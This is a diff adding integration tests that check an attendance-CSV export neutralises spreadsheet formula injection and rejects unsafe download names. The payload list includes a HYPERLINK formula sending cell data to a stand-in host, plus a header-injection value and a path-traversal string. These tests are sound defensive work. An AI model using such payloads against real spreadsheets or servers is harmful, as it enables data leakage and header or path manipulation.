@@ -1,0 +1,45 @@
+"""The attendance CSV: no cell a spreadsheet would run as a formula; a file name no session id can break."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from tests.integration.conftest import Admin
+from tests.records import Device, uuid7
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+
+
+async def test_cells_that_would_be_formulas_are_text(client, admin: Admin) -> None:  # type: ignore[no-untyped-def]
+    outlet = (await admin.post("/api/admin/outlets", {"name": "长寿路社区家政服务网点"}))["id"]
+    staff = Device()
+    for course in FORMULAS:
+        sid = uuid7()
+        records = [staff.record("session", session_id=sid, outlet_id=outlet, course=course, day="2026-11-24"),
+                   staff.record("attendance", session_id=sid, trainee_number="T-0042")]
+        r = await client.post("/api/sync/push", json={"device_id": staff.id, "records": records})
+        assert [x["status"] for x in r.json()["receipts"]] == ["applied", "applied"], r.text
+        r = await client.get(f"/api/admin/training/sessions/{sid}/attendance.csv", headers=await admin.as_regulator())
+        assert r.status_code == 200, r.text
+        rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"), newline="")))
+        assert rows[1][0] == "'" + course, rows[1]
+        assert rows[1][2] == "no:T-0042"  # a plain cell stays as it is
+        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in rows[1]), rows[1]
+
+
+async def test_the_download_name_is_safe(client, admin: Admin) -> None:  # type: ignore[no-untyped-def]
+    outlet = (await admin.post("/api/admin/outlets", {"name": "长寿路社区家政服务网点"}))["id"]
+    staff, sid = Device(), uuid7()
+    record = staff.record("session", session_id=sid, outlet_id=outlet, course="养老护理", day="2026-11-24")
+    assert (await client.post("/api/sync/push", json={"device_id": staff.id, "records": [record]})).status_code == 200
+    regulator = await admin.as_regulator()
+    r = await client.get(f"/api/admin/training/sessions/{sid}/attendance.csv", headers=regulator)
+    assert r.status_code == 200
+    assert r.headers["content-disposition"] == (
+        f"attachment; filename=\"attendance-{sid}.csv\"; filename*=UTF-8''attendance-{sid}.csv")
+    for bad in ['x"; filename="evil.html', "..%2F..%2Fetc", "a" * 37, sid.upper(), "not-a-uuid"]:
+        r = await client.get(f"/api/admin/training/sessions/{bad}/attendance.csv", headers=regulator)
+        assert r.status_code in (400, 404), (bad, r.status_code)
+        assert "content-disposition" not in r.headers
+        assert r.json()["message"] and r.json()["message_en"]
